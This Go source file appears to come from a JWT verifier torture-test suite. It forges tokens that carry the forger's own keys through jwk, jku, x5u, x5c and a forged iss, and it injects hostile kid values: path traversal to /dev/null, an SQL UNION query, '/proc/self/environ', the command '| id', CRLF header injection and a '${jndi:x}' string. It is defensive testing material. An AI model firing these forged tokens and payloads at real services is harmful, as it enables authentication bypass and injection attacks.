package torture

import (
	"crypto"
	"strings"
)

func broughtKeyCases() []Case {
	return []Case{
		{ID: "jwk-embedded", Name: "the forger's public key in the header (jwk)", Source: "RFC 8725 §3.10, CVE-2018-0114", shots: func(k *kit) []shot {
			return underBothNames(k, func(kid string) (set, string) { return set{"jwk": publicJWK(&k.attacker.PublicKey, kid)}, "" })
		}},
		{ID: "jku", Name: "a URL of the forger's keys (jku)", Source: "RFC 8725 §3.10, RFC 7515 §4.1.2", shots: func(k *kit) []shot {
			return underBothNames(k, func(string) (set, string) {
				path := k.trap.path("jwks")
				return set{"jku": k.trap.url + path}, path
			})
		}},
		{ID: "x5u", Name: "a URL of the forger's certificate (x5u)", Source: "RFC 8725 §3.10, RFC 7515 §4.1.5", shots: func(k *kit) []shot {
			return underBothNames(k, func(string) (set, string) {
				path := k.trap.path("cert")
				return set{"x5u": k.trap.url + path}, path
			})
		}},
		{ID: "x5c", Name: "the forger's certificate in the header (x5c)", Source: "RFC 8725 §3.10, RFC 7515 §4.1.6", shots: func(k *kit) []shot {
			return underBothNames(k, func(string) (set, string) { return set{"x5c": []string{k.trap.certificate()}}, "" })
		}},
		{ID: "iss-forged", Name: "an issuer of the forger's, whose keys are there to be found (iss)", Source: "RFC 9068 §4, RFC 8725 §3.8", shots: issForged},
	}
}

// underBothNames forges with a header that brings a key, under the issuer's kid, one of the forger's own, and none.
func underBothNames(k *kit, bring func(kid string) (header set, trap string)) []shot {
	var all []shot
	for _, kid := range []struct {
		sent string
		kid  any
	}{
		{"under the kid of the issuer's key", k.header["kid"]}, {"under a kid of its own", attackerKid}, {"under no kid", nil},
	} {
		name, _ := kid.kid.(string)
		header, path := bring(name)
		header["kid"] = kid.kid
		all = append(all, shot{sent: kid.sent, token: k.forge(header, nil), trap: path})
	}
	return all
}

// issForged is for services that look for the keys where the token says that its issuer is.
func issForged(k *kit) []shot {
	var all []shot
	for _, kid := range []struct {
		sent string
		kid  any
	}{{"under the kid of the issuer's key", k.header["kid"]}, {"under a kid of its own", attackerKid}} {
		path := k.trap.path("iss")
		all = append(all, shot{sent: kid.sent, token: k.forge(set{"kid": kid.kid}, set{"iss": k.trap.url + path}), trap: path})
	}
	return all
}

func keyNameCases() []Case {
	return []Case{
		{ID: "kid-injection", Name: "a kid that is a path, a query, a command or a URL", Source: "RFC 8725 §3.10", shots: kidInjection},
		{ID: "kid-malformed", Name: "a kid that is no name, and the forger's signature", Source: "RFC 7515 §4.1.4", shots: kidMalformed},
		{ID: "kid-of-another-key", Name: "the issuer's key, the kid of another key of the issuer", Source: "RFC 7515 §4.1.4",
			Needs: NeedIssuer, shots: func(k *kit) []shot {
				return []shot{{sent: "both keys are published", token: k.mint(set{"kid": k.otherKID}, nil)}}
			}},
		{ID: "kid-unknown", Name: "the issuer's key under no kid that is published", Source: "RFC 7515 §4.1.4", Must: Either, Needs: NeedKey,
			Remark: "it tries keys that the token did not name", shots: func(k *kit) []shot {
				return []shot{
					{sent: "an unknown kid", token: k.mint(set{"kid": "nobody"}, nil)},
					{sent: "no kid", token: k.mint(set{"kid": nil}, nil)},
				}
			}},
	}
}

func kidInjection(k *kit) []shot {
	all := []shot{
		{sent: "a path to an empty file, HS256 keyed with nothing", token: hmacked(
			b64(k.head(set{"alg": "HS256", "kid": "../../../../../../dev/null"}))+"."+b64(k.body(nil)), crypto.SHA256, nil)},
		{sent: "an SQL query that answers with a key, HS256 keyed with it", token: hmacked(
			b64(k.head(set{"alg": "HS256", "kid": "x' UNION SELECT 'forged' -- "}))+"."+b64(k.body(nil)), crypto.SHA256, []byte("forged"))},
	}
	for _, one := range []struct{ sent, kid string }{
		{"a path", "/proc/self/environ"},
		{"a command", "| id"},
		{"a quote", "' OR 1=1--"},
		{"a name with a NUL", "key.pem\x00"},
		{"a name of 8 KiB", strings.Repeat("k", 8<<10)},
		{"control characters", "k\r\nSet-Cookie: a=b\x1b[2J"},
		{"a format", "%s%n${jndi:x}{{7*7}}"},
	} {
		all = append(all, shot{sent: one.sent, token: k.forge(set{"kid": one.kid}, nil)})
	}
	path := k.trap.path("jwks")
	return append(all, shot{sent: "a URL of the forger's", token: k.forge(set{"kid": k.trap.url + path}, nil), trap: path})
}

func kidMalformed(k *kit) []shot {
	var all []shot
	for _, one := range []struct {
		sent string
		kid  any
	}{
		{"no kid", nil}, {"null", null}, {"an empty text", ""}, {"a number", 1}, {"a list", []any{k.header["kid"]}},
		{"an object", set{"kid": k.header["kid"]}}, {"true", true}, {"the name of a member of every object", "__proto__"},
	} {
		all = append(all, shot{sent: one.sent, token: k.forge(set{"kid": one.kid}, nil)})
	}
	return all
}
